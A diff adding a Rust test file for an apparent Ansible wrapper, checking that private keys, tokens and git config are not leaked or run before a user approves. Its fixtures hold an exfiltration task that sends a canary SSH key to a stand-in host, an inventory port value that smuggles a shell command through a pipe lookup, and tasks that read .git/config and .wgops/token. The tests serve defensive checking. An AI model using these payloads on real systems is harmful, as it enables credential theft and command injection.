@@ -1,0 +1,115 @@
+//! Before somebody said yes: what a playbook and an inventory name is kept on its own side, whoever types.
+
+use crate::group::Group;
+use std::fs;
+
+fn plays(group: &Group, name: &str, hosts: &str, tasks: &str) {
+    let text = format!("- hosts: {hosts}\n  gather_facts: false\n  tasks:\n{tasks}");
+    fs::write(group.root().join("playbooks").join(name), text).unwrap();
+}
+
+#[test]
+fn nothing_of_this_machine_goes_out_before_somebody_said_yes() {
+    let group = Group::new();
+    let secret = group.folder.path().join("id_ed25519");
+    fs::write(&secret, "canary-5c1e").unwrap();
+    let hosts = "near ansible_connection=local\nfar ansible_host=127.0.0.1 ansible_port=1\n";
+    fs::write(group.root().join("inventory/both"), hosts).unwrap();
+    fs::write(group.root().join("inventory/near"), "near ansible_connection=local\n").unwrap();
+    let reads = format!("    - {{name: reads, slurp: {{src: '{}'}}, register: r}}\n", secret.display());
+    let tells = "    - {name: tells, uri: {url: 'http://192.0.2.1:9/{{ r.content }}'}}\n";
+    plays(&group, "touch.yml", "near", &(reads.clone() + tells));
+    plays(&group, "audit.yml", "all", &(reads + tells));
+    // A lead's own dry run leaves this machine out where there are others, and asks none of them for it.
+    group
+        .says("alice", "run playbooks/audit.yml -i both --check")
+        .expect(3, &["near is left out"])
+        .without(&["reads"]);
+    let alone = group.says("alice", "run playbooks/touch.yml -i near --check");
+    alone.expect(0, &["known after apply", "not asked before the real run"]);
+    let audit = group.says("alice", "audit -i near");
+    assert_ne!(audit.code, Some(0), "{}", audit.text);
+    audit.expect(audit.code.unwrap_or(-1), &["fetch_url"]).without(&["HTTP Error"]);
+}
+
+#[test]
+fn a_preview_runs_no_program_here_that_a_connection_names() {
+    let group = Group::new();
+    let told = group.folder.path().join("told");
+    let port = format!("{{{{ lookup('pipe', 'touch {}; echo 22') }}}}", told.display());
+    let inventory =
+        format!("all:\n  hosts:\n    near: {{ansible_connection: local, ansible_port: \"{port}\"}}\n");
+    fs::write(group.root().join("inventory/piped.yml"), inventory).unwrap();
+    for line in ["patch -i piped --allow-dirty", "patch -i piped --check", "facts -i piped"] {
+        let said = group.at_a_terminal("alice", line, "\n");
+        assert!(said.text.contains("nobody said yes to that yet"), "{line}: {}", said.text);
+        assert!(!told.exists(), "{line}");
+    }
+    // Who runs a playbook answers for it.
+    group.says("alice", "run playbooks/touch.yml -i piped --allow-dirty").expect(0, &["changed=1"]);
+    assert!(told.exists());
+}
+
+#[test]
+fn a_host_that_came_to_be_another_is_asked_about_or_refused() {
+    let group = Group::new();
+    let inventory = group.root().join("inventory/prod");
+    fs::write(&inventory, "near ansible_connection=local\n").unwrap();
+    let run = "run playbooks/touch.yml -i prod --allow-dirty";
+    group.says("alice", run).expect(0, &["changed=1"]);
+    // Somebody pushes another machine in its place.
+    fs::write(&inventory, "near ansible_host=127.0.0.1 ansible_port=1\n").unwrap();
+    let refused =
+        ["near: it was this machine here", "near came to be another machine", "--new-host-key near="];
+    group.says("alice", run).expect(4, &refused);
+    group.at_a_terminal("alice", run, "\n").expect(4, &["Type 'yes'"]);
+    group.at_a_terminal("alice", run, "yes\n").expect(3, &["refused the connection"]);
+    // Who only looks sends nothing secret there.
+    plays(&group, "look.yml", "all", "    - stat: {path: /}\n");
+    let look = "run playbooks/look.yml -i prod --check";
+    group.says("alice", look).expect(3, &["refused the connection"]);
+    fs::write(group.folder.path().join("password"), "canary-77aa\n").unwrap();
+    let password = format!("--become-password-file {}", group.folder.path().join("password").display());
+    std::process::Command::new("chmod")
+        .args(["600"])
+        .arg(group.folder.path().join("password"))
+        .status()
+        .unwrap();
+    group
+        .says("alice", &format!("{look} {password}"))
+        .expect(3, &["not the machine that you spoke to before"])
+        .without(&["refused the connection"]);
+    // The one that was known is known still.
+    fs::write(&inventory, "near ansible_connection=local\n").unwrap();
+    group.says("alice", run).expect(0, &["changed=1"]);
+}
+
+#[test]
+fn what_git_and_wgops_keep_is_read_by_no_playbook() {
+    let group = Group::new();
+    let kept = [".git/config", ".wgops/token"];
+    group.git(&group.root(), &["init", "-q"]);
+    for name in kept {
+        let file = group.root().join(name);
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        let before = fs::read_to_string(&file).unwrap_or_default();
+        fs::write(file, before + "# canary-0b2d\n").unwrap();
+    }
+    let tasks: String = kept
+        .iter()
+        .map(|name| {
+            format!(
+                "    - debug: {{msg: \"{{{{ lookup('file', '../{name}') }}}}\"}}\n      ignore_errors: true\n    \
+                 - copy: {{src: '../{name}', dest: '{made}'}}\n      ignore_errors: true\n    \
+                 - template: {{src: '../{name}', dest: '{made}'}}\n      ignore_errors: true\n    \
+                 - include_vars: {{file: '../{name}'}}\n      ignore_errors: true\n",
+                made = group.made().display()
+            )
+        })
+        .collect();
+    plays(&group, "touch.yml", "all", &tasks);
+    let said = group.says("alice", "run playbooks/touch.yml -i local --check");
+    said.expect(said.code.unwrap_or(-1), &["git or wgops keep for themselves"]).without(&["canary-0b2d"]);
+    assert!(!said.text.contains("changed=1"), "{}", said.text);
+    assert!(!group.made().exists());
+}
